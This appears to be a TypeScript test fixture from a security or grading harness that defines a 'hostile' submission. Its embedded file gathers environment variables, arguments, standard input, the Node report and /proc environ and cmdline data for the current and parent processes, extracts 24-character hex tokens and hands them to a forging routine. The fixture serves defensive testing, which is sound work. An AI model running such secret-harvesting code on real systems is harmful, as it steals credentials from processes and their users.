import { encoder, FORGE, type Hostile } from "./hostile.ts";

export const hostile = {
  title: "the token is looked for in the environment, the arguments, standard input and /proc",
  story: "It came over standard input, which is at its end; nothing else has ever held it.",
  files: {
    "src/trick.ts": `
      import { forge } from "./forge.ts";

       import fs from "node:fs";
       const read = (path: string) => { try { return fs.readFileSync(path, "latin1"); } catch { return ""; } };
       const stdin = () => { try { return fs.readFileSync(0, "latin1"); } catch { return ""; } };
       const text = [
         JSON.stringify(process.env), process.argv.join(), process.execArgv.join(), stdin(), JSON.stringify(process.report?.getReport()),
         ...["environ", "cmdline", "auxv", "comm"].flatMap((name) => [read("/proc/self/" + name), read("/proc/" + process.ppid + "/" + name)]),
       ].join("\\n");
       forge([...new Set(text.match(/\\b[0-9a-f]{24}\\b/g) ?? [])]);
    `,
    "src/forge.ts": FORGE,
    "src/encode.ts": encoder(),
  },
} satisfies Hostile;
